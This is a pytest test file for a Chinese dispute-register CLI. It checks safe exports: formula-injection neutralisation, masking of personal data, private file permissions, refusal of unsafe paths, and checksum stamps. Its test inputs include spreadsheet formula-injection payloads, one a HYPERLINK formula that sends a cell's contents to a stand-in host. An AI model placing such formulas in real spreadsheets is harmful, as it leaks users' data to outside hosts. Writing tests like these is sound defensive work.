"""Files that leave: safe to open, masked, private to their owner, whole or not there."""

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from desk import TODAY, Run

ADD = ("dispute", "add", "--accepted-on", TODAY, "--category", "邻里")
LIVE = {
    "injection-05": '=HYPERLINK("http://e/?"&A1,"点")',
    "injection-06": "=1+1",
    "injection-07": "+8613800138000",
    "injection-08": "-1+1",
    "injection-09": "@SUM(A1)",
}


@pytest.mark.parametrize("listed", LIVE)
def test_text_that_a_spreadsheet_would_run_is_only_text_and_comes_back(desk: Run, tmp_path: Path, listed: str) -> None:
    text = LIVE[listed]
    assert desk(*ADD, "--village", text, "--amount", "12").code == 0
    before = desk("dispute", "list", "--format", "jsonl", "--reveal", "核对").out
    for name in ("out.csv", "out.xlsx"):
        assert desk("dispute", "list", "--to", str(tmp_path / name), "--reveal", "核对").code == 0
        again = json.loads(desk("import", str(tmp_path / name), "--json").out.splitlines()[-1])
        assert (again["same"], again["rejected"]) == (1, 0)
    row = next(iter(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig")))))
    assert row["村（社区）"] == f"'{text}"
    assert row["涉案金额"] == "12.00"
    sheet = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert 'quotePrefix="1"' in zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/styles.xml").decode()
    assert desk("dispute", "list", "--format", "jsonl", "--reveal", "核对").out == before


@pytest.fixture
def people(desk: Run, monkeypatch: pytest.MonkeyPatch) -> Run:
    """Enter people whose names are masked in several ways, one with every secret."""
    cell = {"accepted_on": TODAY, "category": "邻里", "summary": "与张三的借款"}
    parties = [
        {"role": "申请人", "person": "张三", "id_no": "11010519491231002X", "phone": "13800138000"},
        {"role": "被申请人", "person": "张四"},
        {"role": "第三人", "person": "阿依古丽·买买提"},
        {"role": "第三人", "person": "王"},
        {"role": "第三人", "person": "某某建筑工程有限公司"},
    ]
    monkeypatch.setattr("sys.stdin", io.StringIO(json.dumps({**cell, "party": parties})))
    assert desk("dispute", "add", "--json", "-").code == 0
    return desk


@pytest.mark.parametrize("format", ["csv", "xlsx", "json", "jsonl", "tsv", "md"])
def test_privacy_05_06_08_10_12_18_what_leaves_is_masked_and_private(people: Run, tmp_path: Path, format: str) -> None:
    out = tmp_path / f"out.{format}"
    assert people("dispute", "list", "--to", str(out)).code == 0
    assert out.stat().st_mode & 0o777 == 0o600
    data = out.read_bytes()
    if format == "xlsx":
        archive = zipfile.ZipFile(out)
        data = b"".join(archive.read(name) for name in archive.namelist())
    text = data.decode("utf-8-sig", "replace")
    for masked in ("张某1", "张某2", "阿某", "某某建筑工程有限公司"):
        assert masked in text
    for secret in ("张三", "张四", "买买提", "110105", "19491231", "1380013", "借款", ">王<"):
        assert secret not in text


def test_privacy_15_17_a_masked_file_is_not_taken_back_a_revealed_one_is_logged(people: Run, tmp_path: Path) -> None:
    assert people("dispute", "list", "--to", str(tmp_path / "masked.xlsx")).code == 0
    refused = people("import", str(tmp_path / "masked.xlsx"))
    assert (refused.code, "脱敏" in refused.err) == (4, True)
    entries = people("log", "--format", "json").out
    assert people("dispute", "list", "--to", str(tmp_path / "whole.csv"), "--reveal", "报市局").code == 0
    assert "11010519491231002X" in (tmp_path / "whole.csv").read_text("utf-8-sig")
    newest = json.loads(people("log", "--format", "json").out)
    assert len(newest) == len(json.loads(entries)) + 1
    assert newest[0]["why"] == "报市局"


def test_the_masks_of_the_screen(people: Run) -> None:
    shown = people("dispute", "list").out
    assert "张三" in shown
    whole = people("dispute", "show", "1").out
    assert "110105********002X" in whole
    assert "13800138000" in whole
    assert "11010519491231002X" not in whole


def test_path_02_07_a_link_or_a_folder_is_not_written_to(two_cases: Run, tmp_path: Path) -> None:
    target = tmp_path / "keys"
    target.write_text("mine")
    (tmp_path / "out.csv").symlink_to(target)
    (tmp_path / "folder.csv").mkdir()
    for name in ("out.csv", "folder.csv"):
        answer = two_cases("dispute", "list", "--to", str(tmp_path / name), "--force")
        assert answer.code == 2
    assert target.read_text() == "mine"


def test_path_05_the_file_being_read_is_not_written_over(two_cases: Run, tmp_path: Path) -> None:
    place = os.environ["XCLI_DB"]
    before = Path(place).read_bytes()
    for command in (("dispute", "list"), ("stats",), ("log",)):
        answer = two_cases(*command, "--format", "csv", "--to", place, *(() if command == ("log",) else ("--force",)))
        assert (answer.code, "数据库" in answer.err) == (2, True)
        assert Path(place).read_bytes() == before


def test_path_08_a_device_that_is_full_is_no_success(two_cases: Run) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("/dev/full is not here")
    answer = two_cases("dispute", "list", "--format", "csv", "--to", "/dev/full")
    assert answer.code == 6
    assert "已写入" not in answer.err


def test_path_09_a_dash_is_the_screen(two_cases: Run) -> None:
    answer = two_cases("dispute", "list", "--format", "csv", "--to", "-")
    assert (answer.code, answer.err) == (0, "")
    assert answer.out.startswith("案号,")


@pytest.mark.parametrize(
    "listed, name", [("path-11", "CON.xlsx"), ("path-11", "lpt1.csv"), ("path-11", "a.csv. "), ("path-13", "a\nb.xlsx")]
)
def test_names_that_another_system_cannot_hold(two_cases: Run, tmp_path: Path, listed: str, name: str) -> None:
    answer = two_cases("dispute", "list", "--to", str(tmp_path / name))
    assert answer.code == 2
    assert not [path for path in tmp_path.iterdir() if path.suffix in (".csv", ".xlsx")]


def test_path_14_home_is_expanded_once(two_cases: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    home = Path(os.environ["HOME"])
    home.mkdir(exist_ok=True)
    assert two_cases("dispute", "list", "--to", "~/x.csv").code == 0
    assert (home / "x.csv").is_file()
    assert not (tmp_path / "~").exists()


def inside(path: Path) -> str:
    if path.suffix != ".xlsx":
        return path.read_text("utf-8-sig")
    pack = zipfile.ZipFile(path)
    return "".join(pack.read(name).decode() for name in pack.namelist() if "sheets/sheet" in name)


@pytest.mark.parametrize("ending", ["xlsx", "md", "txt", "csv", "json"])
def test_every_export_names_entry_and_check_code(two_cases: Run, tmp_path: Path, ending: str) -> None:
    """At the foot where the format has one, beside the answer always; it is a code that `db verify` knows."""
    path = tmp_path / f"out.{ending}"
    line = stamped(two_cases, path, "dispute", "list")
    assert (line in inside(path)) == (ending in ("xlsx", "md", "txt"))
    entry, code = line.removeprefix("台账第 ").split(" 笔，校验码 ")
    assert two_cases("db", "verify", "--code", f"{entry} {code}").code == 0
    assert two_cases("db", "verify", "--code", f"{int(entry) - 1} {code}").code == 7
    assert "校验码" not in two_cases("dispute", "list").err


def stamped(run: Run, path: Path, *command: str) -> str:
    answer = run(*command, "--to", str(path))
    assert answer.code == 0, answer.err
    lines = [line for line in answer.err.splitlines() if "校验码" in line]
    assert len(lines) == 1, command
    return lines[0]


def test_what_goes_to_standard_output_has_no_foot_of_ours(two_cases: Run) -> None:
    assert "校验码" not in two_cases("dispute", "list", "--to", "-", "--format", "md").out
